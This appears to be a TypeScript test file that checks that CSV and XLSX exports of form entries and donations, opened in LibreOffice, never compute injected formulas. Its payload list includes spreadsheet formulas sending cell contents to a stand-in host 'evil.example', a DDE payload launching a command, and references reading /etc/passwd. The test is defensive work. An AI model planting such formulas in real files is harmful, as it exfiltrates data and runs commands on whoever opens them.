import { describe, expect, it } from 'vitest';
import { aDonation } from '../../server/testing/a-donation.ts';
import { deskWorld, seats } from '../../server/testing/desk-world.ts';
import { NAUGHTY, SCRIPTS } from '../security/vectors.ts';
import { openInLibreOffice } from './libre-office.ts';

/** What spreadsheet programs have computed, fetched or turned into something else. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=cmd|'/C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"1")',
  "='file:///etc/passwd'#$passwd.A1",
  '{=1+1}',
  '+1+1',
  '-1-1',
  '@SUM(1+1)',
  ' =1+1',
  '\t=1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '"=1+1',
  "'=1+1",
  '";=1+1',
  'x","=1+1',
  'x\n=1+1',
  '%0A=1+1',
];
/** CSV does not tell these texts from numbers and booleans. A workbook does. */
const NUMBERS: readonly string[] = ['0', '-0', '1e400', 'true'];
const TEXTS = [...FORMULAS, ...NAUGHTY, ...SCRIPTS];

/** Without the apostrophe that a table of commas has before what looks like a formula. */
const plain = (text: string): string => text.replace(/^'(?=[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20])/, '');

/** Exports of an entry for each text, and the texts as they were kept: a form cuts off blanks around them. */
async function entries() {
  const { world, grace } = await deskWorld();
  for (const text of TEXTS) expect((await seats(world, text)).body).toContain('"success":true');
  const exported = async (query: string) =>
    (await grace.get(`/desk/forms/seats/export?order=oldest&column=who&${query}`)).rawPayload;
  const rows: { submission: { who: string } }[] = JSON.parse(String(await exported('format=json')));
  return { exported, kept: rows.map(({ submission }) => submission.who) };
}

describe('an export that LibreOffice opens', () => {
  it('is a workbook of entries, each cell of which is the text that was entered', async () => {
    const { exported, kept } = await entries();
    const { cells, live } = openInLibreOffice('entries.xlsx', await exported('format=xlsx'));
    expect(live).toEqual([]);
    expect(new Set(cells.map(({ type }) => type))).toEqual(new Set(['string']));
    const shown = new Set(cells.map(({ text }) => text));
    expect(kept).toHaveLength(TEXTS.length);
    expect(kept.filter((text) => !shown.has(text))).toEqual([]);
  });

  it('is a table of entries with commas, in which nothing computes', async () => {
    const { exported, kept } = await entries();
    for (const mark of ['no', 'yes']) {
      const table = await exported(`format=csv&mark=${mark}`);
      const { cells, live } = openInLibreOffice('entries.csv', table);
      expect(live).toEqual([]);
      const shown = new Set(cells.map(({ text }) => plain(text)));
      expect(kept.filter((text) => !shown.has(plain(text)) && !NUMBERS.includes(text))).toEqual([]);
    }
  });

  it('is a table or a workbook of donations', async () => {
    const { world, grace } = await deskWorld();
    await world.tools.storage.transaction(async ({ donations }) => {
      for (const [n, text] of TEXTS.entries())
        await donations.add(aDonation(`gift-${n}`, { firstName: text, comment: text, createdAt: n }));
    });
    for (const format of ['csv', 'xlsx']) {
      const { rawPayload } = await grace.get(`/desk/donations/export?format=${format}`);
      const { cells, live } = openInLibreOffice(`donations.${format}`, rawPayload);
      expect(live).toEqual([]);
      const shown = new Set(cells.map(({ text }) => plain(text)));
      expect(FORMULAS.filter((text) => !shown.has(plain(text)))).toEqual([]);
    }
  });

  it('would be noticed to compute, if it did', () => {
    const table = `a\r\n${FORMULAS.map((text) => `"${text.replaceAll('"', '""')}"`).join('\r\n')}\r\n`;
    for (const mark of ['', '\ufeff'])
      expect(openInLibreOffice('plain.csv', `${mark}${table}`).live.length).toBeGreaterThan(3);
  });
});
